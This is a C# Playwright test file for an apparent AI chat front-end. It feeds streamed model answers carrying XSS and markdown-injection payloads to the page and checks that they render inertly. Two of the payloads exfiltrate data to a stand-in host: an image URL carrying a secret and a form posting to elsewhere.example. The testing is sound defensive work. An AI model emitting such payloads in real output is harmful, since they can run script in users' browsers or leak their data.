using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace Cloister.Browser;

/// <summary>A model says whatever it was made to say. None of it acts.</summary>
public class HostileAnswerTests(Chromium chromium)
{
    private static readonly string[] Attempts =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<a href='javascript:alert(1)'>here</a>",
        "[here](javascript:alert(1))",
        "[here](JaVaScRiPt:alert(1))",
        "[here](java&#115;cript:alert(1))",
        "[here](java\tscript:alert(1))",
        "[here](\u0001javascript:alert(1))",
        "[here](data:text/html,<script>alert(1)</script>)",
        "[here](vbscript:msgbox)",
        "[here](//elsewhere.example/x)",
        "[here](https://example.com/\"onmouseover=\"alert(1))",
        "[a](<javascript:alert(1)>)",
        "<javascript:alert(1)>",
        "![picture](https://elsewhere.example/leak.png?secret)",
        "![picture](x\"onerror=\"alert(1))",
        "[ref]: javascript:alert(1)\n\n[ref]",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "```html\n<script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
        "# <img src=x onerror=alert(1)>",
        "<style>body{display:none}</style>",
        "<form action='https://elsewhere.example'><input name=secret></form>",
        "<meta http-equiv=refresh content='0;url=https://elsewhere.example'>",
        "<base href='https://elsewhere.example/'>",
        "<link rel=stylesheet href='https://elsewhere.example/x.css'>",
        "text{onclick=alert(1)}",
        "# title {#message .label onclick=alert(1)}",
        "<!--\n-->\n<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ];

    private const string Allowed = "ARTICLE,P,BR,HR,EM,STRONG,DEL,CODE,PRE,A,UL,OL,LI,BLOCKQUOTE,H3,H4,H5,H6,DIV,TABLE,TBODY,TR,TH,TD,SPAN,BUTTON";

    [Fact]
    public async Task Nothing_that_a_model_says_becomes_anything_but_text_and_links()
    {
        await using var house = await House.StartAsync();
        await using var visitor = await chromium.VisitAsync();
        await visitor.EnterAsync(house);

        foreach (string attempt in Attempts)
        {
            // Piece by piece, so that every beginning of it is drawn as well.
            await visitor.AskAsync("Go on");
            foreach (var piece in attempt.Chunk(7))
            {
                house.Model.Say(new string(piece));
            }
            house.Model.End();
            await Expect(visitor.Answer.Locator(".actions")).ToBeVisibleAsync();
        }

        string[] found = await visitor.Page.Locator(".answer, .answer *").EvaluateAllAsync<string[]>(
            $$"""
            all => all.flatMap(element => [
              ...("{{Allowed}}".split(",").includes(element.nodeName) ? [] : [element.outerHTML]),
              ...[...element.attributes].filter(({ name, value }) => !/^(class|aria-[a-z]+|rel|target|title|type|tabindex|start|href)$/.test(name)
                || (name === "href" && !/^(https?:\/\/|mailto:)/.test(value))).map(({ name, value }) => `${name}=${value}`),
            ])
            """);
        Assert.Empty(found);
        Assert.DoesNotContain(visitor.Requests, address => address.Contains("elsewhere", StringComparison.Ordinal));
        visitor.AssertNoComplaints();
        await Expect(visitor.Field).ToBeVisibleAsync();
    }

    [Fact]
    public async Task An_answer_nested_beyond_reason_is_shown_as_it_is()
    {
        await using var house = await House.StartAsync();
        await using var visitor = await chromium.VisitAsync();
        await visitor.EnterAsync(house);

        foreach (string attempt in (string[])[new string('>', 5000) + " deep", new string('[', 1900) + "deep", new string('[', 50_000) + "deep", string.Concat(Enumerable.Repeat("*a ", 1900)) + "deep", string.Concat(Enumerable.Repeat("**a *b ", 600)) + "deep", string.Concat(Enumerable.Range(0, 300).Select(depth => new string(' ', depth * 2) + "- x\n")) + "deep"])
        {
            house.Model.Answer(attempt);
            await visitor.AskAsync("Go on");
            await Expect(visitor.Answer.Locator(".actions")).ToBeVisibleAsync(new() { Timeout = 60_000 });
            await Expect(visitor.Answer).ToContainTextAsync("deep");
        }
        visitor.AssertNoComplaints();
    }

    [Fact]
    public async Task Even_script_in_the_page_could_not_write_markup()
    {
        await using var house = await House.StartAsync();
        await using var visitor = await chromium.VisitAsync();
        await visitor.EnterAsync(house);
        foreach (string markup in (string[])["<img src=x onerror=alert(1)>", "<script src='/shell.js'></script>", "<a href='javascript:alert(1)'>x</a>", "<iframe></iframe>", "<p style='color:red'>x</p>"])
        {
            await Assert.ThrowsAsync<PlaywrightException>(() => visitor.Page.EvaluateAsync("markup => { document.createElement('div').innerHTML = markup; }", markup));
        }

        // The debugger's own script may evaluate strings; a script of the page may not.
        await visitor.Page.EvaluateAsync("() => { setTimeout('document.title = \"evaluated\"'); }").ContinueWith(_ => { }, TaskScheduler.Default);
        await visitor.Page.WaitForTimeoutAsync(100);
        Assert.Equal("Cloister", await visitor.Page.TitleAsync());
    }
}
